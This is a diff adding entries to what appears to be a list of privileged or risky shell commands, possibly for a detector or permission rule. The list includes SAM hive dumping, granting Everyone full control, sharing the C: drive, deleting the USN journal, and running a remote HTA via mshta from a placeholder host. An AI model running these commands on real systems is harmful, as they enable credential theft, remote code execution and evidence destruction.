@@ -46,6 +46,14 @@ fsutil usn deletejournal /D C:
 setcap cap_net_raw+ep tool
 runas /user:Administrator cmd
 net stop spooler
+Start-Process cmd -Verb RunAs
+takeown /f C:\Tools
+icacls C:\Tools /grant Everyone:F
+Set-Acl -Path C:\Tools -AclObject $acl
+net share all=c:/
+net share all /delete
+Set-ItemProperty -Path HKLM:\Software\App -Name Run -Value 1
+reg save HKLM\SAM sam.hive
 ssh-copy-id me@host
 mshta http://x.example.net/x.hta
 visudo
